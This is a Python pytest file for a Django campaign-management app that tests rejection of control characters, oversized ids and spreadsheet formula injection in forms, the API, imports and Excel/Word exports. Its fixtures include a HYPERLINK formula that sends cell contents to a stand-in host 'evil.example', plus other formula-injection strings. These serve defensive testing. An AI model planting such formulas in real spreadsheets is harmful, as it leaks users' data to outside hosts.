"""Hostile input at the edges (issue 19): huge ids, control characters, formulas. Never a 500, never a live formula."""

import io
from urllib.parse import urlencode

import pytest
from docx import Document
from openpyxl import load_workbook

from wenming.audit.services import audit_record
from wenming.campaigns import services as campaign_services
from wenming.campaigns.models import Task
from wenming.org.models import Department, User

HUGE = "99999999999999999999"


@pytest.fixture
def campaign(cast):
    return campaign_services.campaign_create(actor=cast["office"], unit=cast.unit, title="2026年创建", year=2026)


@pytest.mark.parametrize("url", [
    "/api/v1/phases/?campaign={huge}", "/api/v1/roster/?campaign={huge}", "/api/v1/tasks/?campaign={huge}",
    "/api/v1/phases/{huge}/", "/api/v1/tasks/{huge}/", "/api/v1/phases/?campaign=²",
    "/campaigns/{huge}/", "/campaigns/{huge}/roster/", "/campaigns/tasks/{huge}/",
])
def test_a_number_too_big_for_the_database_is_not_found_or_refused(cast, campaign, client_for, url):
    response = client_for(cast["office"]).get(url.format(huge=HUGE))
    assert response.status_code in (200, 400, 404), response.content[:300]


# --- control characters and formulas (issue 19, points 4 and 5) ---------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
CONTROL_MESSAGE = "不能包含控制字符"


def cells_of(content: bytes) -> list:
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]


def assert_text_only(content: bytes, *expected: str) -> None:
    """Every text cell is a string cell (never a formula), and each expected text is there, control characters gone."""
    cells = cells_of(content)
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a cell became a live formula"
    values = {c.value for c in cells}
    for text in expected:
        assert text in values, (text, values)


@pytest.mark.parametrize("title", ["会议\x01纪要", "会议\x00纪要", "会议\x9b纪要", "会议\x7f纪要"])
def test_a_form_refuses_control_characters_with_a_chinese_message(cast, campaign, client_for, title):
    response = client_for(cast["office"]).post(f"/campaigns/{campaign.pk}/tasks/new/", {"title": title})

    assert response.status_code == 200
    page = response.content.decode()
    assert CONTROL_MESSAGE in page
    assert "不允许是用空字符串" not in page
    assert not Task.objects.filter(campaign=campaign).exists()


def test_a_form_keeps_tabs_and_line_breaks(cast, campaign, client_for):
    response = client_for(cast["office"]).post(f"/campaigns/{campaign.pk}/tasks/new/",
                                               {"title": "第一行\r\n第二行\t完"})
    assert response.status_code == 302
    assert Task.objects.get(campaign=campaign).title == "第一行\r\n第二行\t完"


@pytest.mark.parametrize("content_type", ["json", "form", "multipart"])
def test_the_api_refuses_control_characters_naming_the_field(cast, client_for, content_type):
    client = client_for(cast["admin"])
    data = {"name": "审判\x01管理办公室"}
    if content_type == "json":
        response = client.post("/api/v1/departments/", data, content_type="application/json")
    elif content_type == "form":
        response = client.post("/api/v1/departments/", urlencode(data),
                               content_type="application/x-www-form-urlencoded")
    else:
        response = client.post("/api/v1/departments/", data)

    assert response.status_code == 400, response.content
    assert CONTROL_MESSAGE in response.json()["name"][0]
    assert not Department.objects.filter(name__startswith="审判").exists()


def test_the_api_refuses_a_nul_and_ignores_unknown_fields_as_before(cast, client_for):
    client = client_for(cast["admin"])
    refused = client.post("/api/v1/departments/", {"name": "审管\x00办"}, content_type="application/json")
    assert refused.status_code == 400
    assert refused.json()["name"] == ["不能包含控制字符（不可见的特殊字符），请删除后再提交。"]

    kept = client.post("/api/v1/departments/", {"name": "审管办", "unknown": "\x01"}, content_type="application/json")
    assert kept.status_code == 201


@pytest.fixture
def hostile_tasks(cast, campaign):
    """Rows stored before the edge refused such text (as eight audit rows already are): written by the service."""
    for title in (FORMULA, "+1+2", "@SUM(A1)", "坏\x01标题\x1f"):
        campaign_services.task_create(actor=cast["office"], campaign=campaign, title=title)
    return campaign


def test_task_export_writes_formulas_and_control_characters_as_plain_text(cast, hostile_tasks, client_for):
    client = client_for(cast["office"])
    response = client.get(f"/campaigns/{hostile_tasks.pk}/export.xlsx")

    assert response.status_code == 200
    assert response["Cache-Control"] == "private, no-store"
    assert_text_only(response.content, FORMULA, "+1+2", "@SUM(A1)", "坏标题")

    word = client.get(f"/campaigns/{hostile_tasks.pk}/export.docx")
    assert word.status_code == 200
    assert word["Cache-Control"] == "private, no-store"
    texts = [cell.text for row in Document(io.BytesIO(word.content)).tables[0].rows for cell in row.cells]
    assert FORMULA in texts and "坏标题" in texts


def test_audit_export_survives_rows_holding_control_characters(cast, hostile_tasks, client_for):
    audit_record(actor=cast["office"], verb="campaigns.task_updated", unit=cast.unit,
                 after={"title": "坏\x01标题", "note": FORMULA})

    response = client_for(cast["auditor"]).get("/audit/export.xlsx")

    assert response.status_code == 200
    assert response["Cache-Control"] == "private, no-store"
    assert_text_only(response.content, FORMULA, "坏标题")


def test_archive_catalogue_writes_titles_as_text(cast):
    from wenming.evidence import archive
    from wenming.evidence import services as evidence_services
    from wenming.evidence.tests.conftest import make_campaign, upload_photos

    campaign = make_campaign(cast)
    for title in (FORMULA, "照片\x01二"):
        evidence_services.evidence_review(actor=cast["office"], evidence=upload_photos(cast, campaign, title=title),
                                          approve=True)
    entries = archive.plan(campaign)

    assert_text_only(archive.catalogue_xlsx(campaign, entries), FORMULA, "照片二")
    catalogue = Document(io.BytesIO(archive.catalogue_docx(campaign, entries)))
    assert FORMULA in [cell.text for row in catalogue.tables[0].rows for cell in row.cells]


def test_people_export_writes_names_as_text(cast, client_for):
    User.objects.filter(pk=cast["staff_a"].pk).update(real_name="=1+1\x02")

    response = client_for(cast["admin"]).get("/org/people/export.xlsx")

    assert response.status_code == 200
    assert_text_only(response.content, "=1+1")


def test_a_sheet_title_from_user_text_is_made_valid():
    from wenming.core.xlsx import build_workbook

    assert build_workbook("2026[创建]/测评:表?\x01" * 3, ["a"], []).active.title == "2026 创建  测评 表 2026 创建  测评 表 202"


def test_an_import_is_an_edge_too_control_characters_do_not_get_in(cast, campaign, client_for):
    """Issue 19.4 through the importers: a control character in an uploaded sheet is dropped while reading (every
    importer reads cells through `cell_text` or `text_of`), and a formula-looking name is stored and exported as
    text."""
    from django.core.files.uploadedfile import SimpleUploadedFile
    from django.urls import reverse

    from wenming.activities.models import VolunteerImportDraft, VolunteerRecord
    from wenming.core.tables import text_of

    assert text_of("\x01劝导\x1f") == "劝导"
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"点击")'
    quoted = formula.replace('"', '""')
    text = f'姓名,服务时长,服务日期,项目名称\n干警甲,2,2021-04-02,"\x01{quoted}\x7f"\n'
    client = client_for(cast["office"])
    query = f"?campaign={campaign.pk}"
    upload = client.post(reverse("activities:volunteer_import") + query,
                         {"file": SimpleUploadedFile("志愿.csv", text.encode())})
    assert upload.status_code == 302, upload.content.decode()[:500]
    client.post(reverse("activities:volunteer_preview", args=[VolunteerImportDraft.objects.get().token]))

    assert VolunteerRecord.objects.get().activity_name == formula
    exported = client.get(reverse("activities:volunteer_export") + query)
    cells = [cell for row in load_workbook(io.BytesIO(exported.content)).active.iter_rows() for cell in row]
    assert not any(cell.data_type == "f" for cell in cells)
